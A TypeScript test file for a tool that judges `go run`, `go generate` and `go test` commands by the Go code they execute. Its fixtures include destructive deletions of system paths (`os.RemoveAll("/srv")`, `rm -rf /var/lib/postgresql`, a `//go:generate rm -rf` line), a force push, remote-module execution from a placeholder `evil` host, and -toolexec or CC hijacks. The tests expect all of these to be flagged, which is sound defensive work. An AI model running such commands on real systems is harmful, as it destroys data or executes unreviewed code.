// Go: `go run`, `go generate` and `go test` judged by what the Go code does. Real files in
// temporary workspaces (a go.mod, packages), read by the real tree-sitter-go grammar.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { actionsIn, evidenceOf, verdict, workspace } from './helpers.js';

const MOD = 'module example.com/app\n\ngo 1.22\n';
const main = (body: string, imports = '"os"') => `package main\n\nimport (\n${imports.split(' ').map((i) => `\t${i}`).join('\n')}\n)\n\nfunc main() {\n${body}\n}\n`;
const ops = (actions: Awaited<ReturnType<typeof actionsIn>>) => actions.map((a) => `${a.operation} ${a.target.id}`);

beforeAll(async () => {
  await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': main('\t_ = 1', '"fmt"') });
}, 60_000);

describe('go run reads the package it runs', () => {
  it('the lead\'s hole: os.RemoveAll("/srv") in cmd/clean, by every spelling of go run', async () => {
    const files = { 'go.mod': MOD, 'cmd/clean/main.go': 'package main; import "os"; func main(){ os.RemoveAll("/srv") }\n' };
    for (const run of ['go run ./cmd/clean', 'cd cmd/clean && go run main.go', 'cd cmd/clean && go run .', 'go run example.com/app/cmd/clean']) {
      const actions = await actionsIn(run, files);
      const del = actions.find((a) => a.operation === 'delete');
      expect(del, run).toBeDefined();
      expect(evidenceOf(del!)).toContain('main.go:1 calls os.RemoveAll("/srv")');
    }
  });

  it('a package that only prints passes', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tfmt.Println("hi", os.Args[1:])', '"fmt" "os"') });
    expect(actions).toEqual([]);
  });

  it('exec.Command with literal words is judged as that command; sh -c of a built string is unknown', async () => {
    const lit = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\texec.Command("rm", "-rf", "/var/lib/postgresql").Run()', '"os/exec"') });
    expect(ops(lit).some((o) => o.startsWith('delete'))).toBe(true);
    const built = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tx := os.Getenv("X")\n\texec.Command("sh", "-c", x).Run()', '"os" "os/exec"') });
    expect(built.map((a) => a.operation)).toContain('unknown');
  });

  it('follows values: constants, filepath.Join, fmt.Sprintf, a method value, a helper in another file', async () => {
    const files = {
      'go.mod': MOD,
      'main.go': 'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nconst base = "/srv"\n\nfunc main() {\n\tf := os.RemoveAll\n\tf(filepath.Join(base, "data"))\n\tclean(base + "/cache")\n}\n',
      'util.go': 'package main\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc clean(dir string) {\n\tos.RemoveAll(fmt.Sprintf("%s/x", dir))\n}\n',
    };
    const actions = await actionsIn('go run .', files);
    const targets = actions.filter((a) => a.operation === 'delete').map((a) => a.target.id);
    expect(targets.join(' ')).toContain('/srv/data');
    expect(targets.join(' ')).toContain('/srv/cache/x');
    expect(actions.find((a) => a.target.id.includes('/srv/cache/x'))?.source.file).toBe('util.go');
  });

  it('a deletion in init(), in a file with a build tag, in another package of the module', async () => {
    const files = {
      'go.mod': MOD,
      'main.go': main('\tlib.Hello()', '"example.com/app/lib"'),
      'tagged.go': '//go:build linux\n\npackage main\n\nimport "os"\n\nfunc init() { os.RemoveAll("/etc/app") }\n',
      'lib/lib.go': 'package lib\n\nimport "os"\n\nfunc Hello() {}\n\nfunc init() { os.Remove("/var/lib/app.db") }\n',
    };
    const ids = (await actionsIn('go run .', files)).filter((a) => a.operation === 'delete').map((a) => a.target.id).join(' ');
    expect(ids).toContain('/etc/app');
    expect(ids).toContain('/var/lib/app.db');
  });

  it('a method\'s parameters take its callers\' values: read-only git passes, a push is judged', async () => {
    const repo = (calls: string) => `package main\n\nimport "os/exec"\n\ntype repo struct{ wd string }\n\nfunc (r *repo) git(args ...string) ([]byte, error) {\n\tcmd := exec.Command("git", args...)\n\treturn cmd.Output()\n}\n\nfunc main() {\n\tr := &repo{}\n${calls}\n}\n`;
    expect(await actionsIn('go run .', { 'go.mod': MOD, 'main.go': repo('\tr.git("rev-parse", "HEAD")\n\tr.git("show", "-s", "--format=%ct")') })).toEqual([]);
    const push = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': repo('\tr.git("rev-parse", "HEAD")\n\tr.git("push", "--force", "origin", "main")') });
    expect(push.map((a) => a.operation)).toContain('update');
    const asValue = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': repo('\tf := r.git\n\tf("rev-parse", "HEAD")') });
    expect(asValue.map((a) => a.operation)).toContain('unknown');
  });

  it('HOME from the environment is the home folder', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tos.RemoveAll(filepath.Join(os.Getenv("HOME"), "x"))', '"os" "path/filepath"') });
    expect(actions.find((a) => a.operation === 'delete')?.target.id).toMatch(/x$/);
  });

  it('a remote module@version, -exec, -toolexec and GOFLAGS=-toolexec are code nobody has read', async () => {
    const files = { 'go.mod': MOD, 'main.go': main('\t_ = 1', '"fmt"') };
    for (const run of ['go run github.com/evil/x@latest', "go run -exec 'sh -c' .", 'go test -exec /tmp/x ./...', 'GOFLAGS=-toolexec=/tmp/x go build ./...', 'go vet -vettool=/tmp/x ./...', 'go env -w GOFLAGS=-toolexec=/tmp/x', 'go env -w CC=/tmp/cc', 'CC=./cc.sh go build ./...']) {
      const actions = await actionsIn(run, files);
      expect(actions.map((a) => a.operation), run).toContain('unknown');
    }
  });

  it('a quiet library replaced by a local folder, or imported blank for its init, is code nobody has read', async () => {
    const replaced = await actionsIn('go run .', { 'go.mod': `${MOD}\nreplace github.com/spf13/cobra => ./fork\n`, 'main.go': main('\tcobra.CheckErr(nil)', '"github.com/spf13/cobra"'), 'fork/x.go': 'package cobra\n' });
    expect(replaced.map((a) => a.operation)).toContain('unknown');
    const plain = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tcobra.CheckErr(nil)', '"github.com/spf13/cobra"') });
    expect(plain).toEqual([]);
    const blank = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': 'package main\n\nimport _ "github.com/evil/init"\n\nfunc main() {}\n' });
    expect(blank.map((a) => a.operation)).toContain('unknown');
    expect(evidenceOf(blank[0])).toContain('main.go:3');
    expect(await actionsIn('go run .', { 'go.mod': MOD, 'main.go': 'package main\n\nimport (\n\t_ "embed"\n\t_ "github.com/lib/pq"\n)\n\nfunc main() {}\n' })).toEqual([]);
  });

  it('go build, go vet, go mod tidy run no project code', async () => {
    const files = { 'go.mod': MOD, 'main.go': main('\tos.RemoveAll("/srv")') };
    for (const run of ['go build ./...', 'go vet ./...', 'go mod tidy', 'go build -o bin/app .', 'CC=aarch64-linux-gnu-gcc go build ./...', 'go env -w GOPRIVATE=example.com']) expect(await actionsIn(run, files), run).toEqual([]);
  });
});

describe('imported workspace packages: the functions the code can reach', () => {
  const lib = 'package lib\n\nimport "os"\n\nfunc Hello() string { return "hi" }\n\nfunc Wipe(dir string) { os.RemoveAll(dir) }\n';
  const files = (body: string, more: Record<string, string> = {}) => ({ 'go.mod': MOD, 'main.go': main(body, '"fmt" "example.com/app/lib"'), 'lib/lib.go': lib, ...more });

  it('a delete in a function nothing calls does not stop the command', async () => {
    expect(await actionsIn('go run .', files('\tfmt.Println(lib.Hello())'))).toEqual([]);
  });

  it.each([
    ['called', '\tlib.Wipe("/srv")'],
    ['passed as a value', '\tf := lib.Wipe\n\tfmt.Println(f)'],
    ['reached through another function of the package', '\tlib.Run()'],
    ['reached through a method', '\tvar c lib.Cleaner\n\tc.Clean()'],
    ['reached through an interface method the standard library calls', '\tfmt.Println(lib.Cleaner{})'],
  ])('a delete of a run-time path %s is judged', async (_what, body) => {
    const more = { 'lib/more.go': 'package lib\n\ntype Cleaner struct{}\n\nfunc Run() { Wipe("/tmp/x") }\n\nfunc (Cleaner) Clean() { Wipe("/srv") }\n\nfunc (Cleaner) String() string { Wipe("/srv"); return "" }\n' };
    const actions = await actionsIn('go run .', files(body, more));
    expect(actions.map((a) => a.operation), body).toContain('delete');
  });

  it('init of an imported package always runs', async () => {
    const actions = await actionsIn('go run .', files('\tfmt.Println(lib.Hello())', { 'lib/init.go': 'package lib\n\nimport "os"\n\nfunc init() { os.RemoveAll("/srv") }\n' }));
    expect(ops(actions)).toContain('delete /srv');
  });

  it('a blank import runs the package\'s init', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('', '_ "example.com/app/lib"'), 'lib/lib.go': 'package lib\n\nimport "os"\n\nfunc init() { os.RemoveAll("/srv") }\n' });
    expect(ops(actions)).toContain('delete /srv');
  });
});

describe('go generate', () => {
  it('each //go:generate line is a command in the package folder, with file and line', async () => {
    const actions = await actionsIn('go generate ./...', { 'go.mod': MOD, 'pkg/gen.go': 'package pkg\n\n//go:generate rm -rf /srv\n' });
    const del = actions.find((a) => a.operation === 'delete');
    expect(del?.target.id).toBe('/srv');
    expect(del?.source).toMatchObject({ file: 'pkg/gen.go', line: 3 });
  });

  it('a generator run by go run that writes into the package passes', async () => {
    const actions = await actionsIn('go generate ./...', {
      'go.mod': MOD,
      'pkg/doc.go': 'package pkg\n\n//go:generate go run gen.go -out zz_generated.go\n',
      'pkg/gen.go': '//go:build ignore\n\npackage main\n\nimport (\n\t"flag"\n\t"os"\n)\n\nfunc main() {\n\tout := flag.String("out", "gen.go", "")\n\tflag.Parse()\n\tos.WriteFile(*out, []byte("package pkg\\n"), 0o644)\n}\n',
    });
    expect(actions.filter((a) => a.operation !== 'read' && a.operation !== 'create')).toEqual([]);
  });
});

describe('bad input is unknown with the reason, never a pass', () => {
  it.each([
    ['a syntax error', 'package main\nfunc main( {\n'],
    ['a binary named .go', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2])],
    ['a huge file', `package main\n\nfunc main() {}\n${'// filler\n'.repeat(40_000)}`],
    ['cgo', 'package main\n\n// #include <stdio.h>\nimport "C"\n\nfunc main() {}\n'],
  ])('%s', async (_what, text) => {
    const actions = await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': text });
    expect(actions.map((a) => a.operation)).toContain('unknown');
  });

  it('random text in a .go file never throws and never passes a delete unseen', async () => {
    await fc.assert(fc.asyncProperty(fc.string({ maxLength: 120 }), async (noise) => {
      const actions = await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': `package main\nimport "os"\nfunc main() { os.RemoveAll("/srv") }\n${noise}` });
      expect(actions.some((a) => a.operation === 'delete' || a.operation === 'unknown')).toBe(true);
    }), { numRuns: 25 });
  });
});

describe('verdicts', () => {
  it('go run of the deleting package stops; of a printing one passes', async () => {
    expect((await verdict('go run ./cmd/clean', { 'go.mod': MOD, 'cmd/clean/main.go': 'package main; import "os"; func main(){ os.RemoveAll("/srv") }\n' })).verdict).not.toBe('pass');
    expect((await verdict('go run ./cmd/hello', { 'go.mod': MOD, 'cmd/hello/main.go': 'package main; import "fmt"; func main(){ fmt.Println("hi") }\n' })).verdict).toBe('pass');
  });
});

describe('flags the command line sets (flag, pflag)', () => {
  const PFLAG = 'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n\n\t"github.com/spf13/pflag"\n)\n\nvar opts = struct {\n\tOut     string\n\tVerbose bool\n}{}\n\n'
    + 'func init() {\n\tpflag.BoolVarP(&opts.Verbose, "verbose", "v", false, "")\n\tpflag.StringVarP(&opts.Out, "output", "o", "/output", "")\n\tpflag.Parse()\n}\n\nfunc main() {\n\tos.RemoveAll(filepath.Join(opts.Out, "gen"))\n}\n';
  const deletes = async (run: string, text = PFLAG) => ops(await actionsIn(run, { 'go.mod': MOD, 'cmd/gen/main.go': text })).filter((o) => o.startsWith('delete'));

  it.each([
    ['go run ./cmd/gen -o build', 'delete build/gen'],
    ['go run ./cmd/gen --output=build', 'delete build/gen'],
    ['go run ./cmd/gen --output build', 'delete build/gen'],
    ['go run ./cmd/gen -obuild', 'delete build/gen'],
    ['go run ./cmd/gen', 'delete /output/gen'],
    ['go run ./cmd/gen -o /srv', 'delete /srv/gen'],
  ])('StringVarP: %s deletes where the flag says', async (run, expected) => {
    expect(await deletes(run)).toEqual([expected]);
  });

  it('the last of a repeated flag counts: every value given is judged', async () => {
    expect(await deletes('go run ./cmd/gen -o build -o /srv')).toContain('delete /srv/gen');
  });

  it.each(['go run ./cmd/gen -vo /srv', 'go run ./cmd/gen -o "$DIR"'])('%s: a shorthand in a cluster or a run-time value is not followed', async (run) => {
    const actions = await actionsIn(run, { 'go.mod': MOD, 'cmd/gen/main.go': PFLAG });
    const del = actions.find((a) => a.operation === 'delete');
    expect(del?.target.id).toMatch(/RUNTIME_VALUE/);
  });

  const STD = (extra: string) => `package main\n\nimport (\n\t"flag"\n\t"os"\n)\n\nvar out string\n\nfunc main() {\n\tflag.StringVar(&out, "out", "dist", "")\n${extra}\tflag.Parse()\n\tos.RemoveAll(out)\n}\n`;

  it('flag.StringVar into a variable declared without a value: its default or the command line', async () => {
    expect(await deletes('go run ./cmd/gen', STD(''))).toEqual(['delete dist']);
    expect(await deletes('go run ./cmd/gen -out=build', STD(''))).toEqual(['delete build']);
  });

  it.each([
    ['flag.Set', '\tflag.Set("out", "/srv")\n'],
    ['os.Args replaced', '\tos.Args = []string{"x", "-out", "/srv"}\n'],
    ['flag.CommandLine.Parse', '\tflag.CommandLine.Parse([]string{"-out", "/srv"})\n'],
  ])('code that sets flags itself (%s): the flag is unknown', async (_what, extra) => {
    const actions = await actionsIn('go run ./cmd/gen -out build', { 'go.mod': MOD, 'cmd/gen/main.go': STD(extra) });
    expect(actions.find((a) => a.operation === 'delete')?.target.id).toMatch(/RUNTIME_VALUE/);
  });

  it('`*p = v` through the pointer a flag returns is a value of the flag variable', async () => {
    const text = 'package main\n\nimport (\n\t"flag"\n\t"os"\n)\n\nfunc main() {\n\tp := flag.String("out", "dist", "")\n\tflag.Parse()\n\t*p = "/srv"\n\tos.RemoveAll(*p)\n}\n';
    expect(await deletes('go run ./cmd/gen', text)).toContain('delete /srv');
  });
});

describe('a file os.CreateTemp made', () => {
  const prog = (body: string) => `package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nvar _ = filepath.Join\n\nfunc main() {\n${body}\n}\n`;
  const ids = async (body: string) => (await actionsIn('go run .', { 'go.mod': MOD, 'main.go': prog(body) })).filter((a) => a.operation === 'delete').map((a) => a.target.id);

  it('f.Name() is the fresh file in the scratch folder, or in the folder given', async () => {
    expect(await ids('\tf, _ := os.CreateTemp("", "perms.*")\n\tdefer os.Remove(f.Name())')).toEqual([expect.stringMatching(/\/perms\.XXXXXX$/)]);
    expect(await ids('\tf, _ := os.CreateTemp("build", "x")\n\tos.Remove(f.Name())')).toEqual(['build/xXXXXXX']);
  });

  it('its folder, or a pattern with a slash is not the fresh file', async () => {
    expect(await ids('\tf, _ := os.CreateTemp("", "x")\n\tos.RemoveAll(filepath.Dir(f.Name()))')).not.toContainEqual(expect.stringMatching(/XXXXXX/));
    expect(await ids('\tf, _ := os.CreateTemp(os.Getenv("DIR"), "x")\n\tos.RemoveAll(filepath.Dir(f.Name()))')).toEqual([expect.stringMatching(/RUNTIME_VALUE/)]);
    expect(await ids('\tf, _ := os.CreateTemp("", "../x")\n\tos.Remove(f.Name())')).toEqual([expect.stringMatching(/RUNTIME_VALUE/)]);
  });

  it('in a folder known at run time, is the fresh name itself when deleted, wherever the folder is', async () => {
    expect(await ids('\tf, _ := os.CreateTemp(os.Getenv("DIR"), "x")\n\tos.Remove(f.Name())')).toEqual([expect.stringMatching(/^\(a fresh file os\.CreateTemp made from the pattern x/)]);
    expect(await ids('\td, _ := os.MkdirTemp(os.Getenv("DIR"), "w")\n\tos.RemoveAll(d)')).toEqual([expect.stringMatching(/^\(a fresh folder os\.MkdirTemp made/)]);
  });

  it('in a folder known at run time, is unknown once anything is done to it, or when the name holds something else too', async () => {
    expect(await ids('\tf, _ := os.CreateTemp(os.Getenv("DIR"), "x")\n\tos.Remove(f.Name() + ".bak")')).toEqual([expect.stringMatching(/RUNTIME_VALUE/)]);
    expect(await ids('\td, _ := os.MkdirTemp(os.Getenv("DIR"), "w")\n\tos.RemoveAll(filepath.Join(d, ".."))')).toEqual([expect.stringMatching(/RUNTIME_VALUE/)]);
    expect(await ids('\tf, _ := os.CreateTemp(os.Getenv("DIR"), "x")\n\tif len(os.Args) > 1 {\n\t\tf, _ = os.Open(os.Args[1])\n\t}\n\tos.Remove(f.Name())')).toEqual([expect.stringMatching(/RUNTIME_VALUE/)]);
  });
});

describe('a parameter passed on under its own name', () => {
  const text = (start: string) => `package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\toutDir := ${start}\n\tgenerate(outDir)\n}\n\nfunc generate(outDir string) {\n\treset(outDir)\n}\n\nfunc reset(outDir string) {\n\tos.RemoveAll(outDir)\n}\n`;

  it('keeps the value the name is first given', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': text('filepath.Join("build", "gen")') });
    expect(ops(actions)).toEqual(['delete build/gen']);
  });

  it('a changed value passed back is still unknown', async () => {
    const changed = text('"build"').replace('\treset(outDir)\n', '\treset(outDir)\n\tgenerate(filepath.Join(outDir, ".."))\n');
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': changed });
    expect(ops(actions).some((o) => /RUNTIME_VALUE/.test(o)), ops(actions).join()).toBe(true);
  });
});

describe('the reader on random Go-like text', () => {
  const FRAGMENTS = ['package main\n', 'import "os"\n', 'import (\n"os/exec"\n)\n', 'func f(a string, b ...string) (x string, err error) {', '}', '{', '(', ')', 'os.RemoveAll(', '"/srv"', '`raw`', ',', '\n', ':=', '=', '+', '...', 'exec.Command(', '[]string{', 'map[string]int{', '&T{A: ', 'go func() {', 'defer ', 'return ', 'for _, e := range ', 'x.(string)', '//go:generate rm -rf /\n', 'import "C"\n', '\'\\x00\'', '0x1F', 'é', '\r\n'];
  it('never throws, and a package with a delete always says so or is unknown', async () => {
    const { readGo } = await import('../../src/intake/code/readers/go.js');
    await fc.assert(fc.asyncProperty(fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 40 }), async (parts) => {
      const text = parts.join('');
      const program = await readGo([{ file: 'a.go', text }, { file: 'b.go', text: 'package main\nimport "os"\nfunc init() { os.RemoveAll("/srv") }\n' }]);
      expect(program.calls.some((c) => c.loc.text.includes('os.RemoveAll("/srv")'))).toBe(true);
    }), { numRuns: 60 });
  });
});

const shellIndex = join(import.meta.dirname, '..', '..', 'dist', 'intake', 'shell', 'index.js');

describe.skipIf(!existsSync(shellIndex))('WASM loads only for go commands that run Go code (needs npm run build)', () => {
  const loadsTreeSitter = (command: string): boolean => {
    const cwd = workspace({ 'go.mod': MOD, 'x/main.go': main('\tfmt.Println(1)', '"fmt"') });
    execFileSync('git', ['init', '-q'], { cwd });
    execFileSync('git', ['add', '.'], { cwd });
    execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', 'commit', '-qm', 'x'], { cwd });
    const script = `
      import { createRequire } from 'node:module';
      const { parseShellCommand } = await import(${JSON.stringify(shellIndex)});
      await parseShellCommand(${JSON.stringify(command)}, { kind: 'shell', command: ${JSON.stringify(command)} }, { cwd: ${JSON.stringify(cwd)} });
      process.stdout.write(JSON.stringify(Object.keys(createRequire(import.meta.url).cache).some((k) => k.includes('tree-sitter-wasm'))));
    `;
    return JSON.parse(execFileSync(process.execPath, ['--input-type=module', '-e', script], { cwd, encoding: 'utf8' })) as boolean;
  };
  it.each(['go build ./...', 'go vet ./...', 'go test ./...', 'go mod tidy'])('%s loads no WASM', (command) => {
    expect(loadsTreeSitter(command)).toBe(false);
  });
  it('go run ./x loads it', () => {
    expect(loadsTreeSitter('go run ./x')).toBe(true);
  });
});
